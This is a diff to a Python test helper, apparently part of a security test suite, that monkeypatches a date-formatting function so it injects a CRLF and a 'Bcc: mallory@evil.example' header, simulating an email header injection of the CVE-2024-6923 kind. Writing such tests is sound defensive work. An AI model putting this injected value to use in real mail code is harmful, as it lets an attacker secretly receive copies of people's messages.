@@ -18,8 +18,8 @@ from tests.attacks.desk import ALICE, BOB, Desk
 
 def one_header_line_more(monkeypatch: pytest.MonkeyPatch) -> None:
     """As if formatting a date broke the header open (CVE-2024-6923 and its kin)."""
-    honest = post.format_datetime
-    monkeypatch.setattr(post, "format_datetime", lambda moment: f"{honest(moment)}\r\nBcc: mallory@evil.example")
+    honest = post.date_field
+    monkeypatch.setattr(post, "date_field", lambda *hour: f"{honest(*hour)}\r\nBcc: mallory@evil.example")
 
 
 def test_O_02_as_shipped_every_sort_of_letter_passes_in_every_language(desk: Desk) -> None:
